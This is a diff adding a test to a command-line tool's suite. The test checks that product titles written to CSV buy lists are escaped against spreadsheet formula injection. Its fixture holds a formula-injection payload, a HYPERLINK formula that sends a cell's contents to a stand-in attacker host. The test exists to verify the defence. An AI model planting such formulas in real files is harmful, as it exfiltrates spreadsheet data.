@@ -219,3 +219,29 @@ describe('the manifest table on a terminal', () => {
     expect(text).not.toContain('…');
   });
 });
+
+describe('a buy list is formula-safe by the one rule', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
+  const rowOf = async (file: string, msku: string) => {
+    const { parse } = await import('csv-parse/sync');
+    const rows = parse(readFileSync(file, 'utf8')) as string[][];
+    const title = rows[0]!.indexOf('title');
+    return rows.find((r) => r[0] === msku)?.[title];
+  };
+
+  it('a server title that is a formula is written as text, by the manifest and by the scan loop', async () => {
+    fx.sandbox.retitle('B0LOTAAAAA', FORMULA);
+    const manifest = join(fx.dir, 'formula.csv');
+    writeFileSync(manifest, 'code,cost,qty\nB0LOTAAAAA,2.00,1\n');
+    const whole = join(fx.dir, 'formula-buys.csv');
+    const r = await runInv(['scout', '--file', manifest, '--at', '40', '--buy-list', whole, '--json', '--refresh'], {
+      env: fx.env,
+    });
+    expect(r.code, r.stderr).toBe(0);
+    expect(await rowOf(whole, 'B0LOTAAAAA-new')).toBe(`'${FORMULA}`);
+    const appended = join(fx.dir, 'formula-loop.csv');
+    const loop = await runInv(['scout', '--cost', '2', '--buy-list', appended], { env: fx.env, stdin: 'B0LOTAAAAA\n' });
+    expect(loop.code, loop.stderr).toBe(0);
+    expect(await rowOf(appended, 'B0LOTAAAAA-new')).toBe(`'${FORMULA}`);
+  });
+});
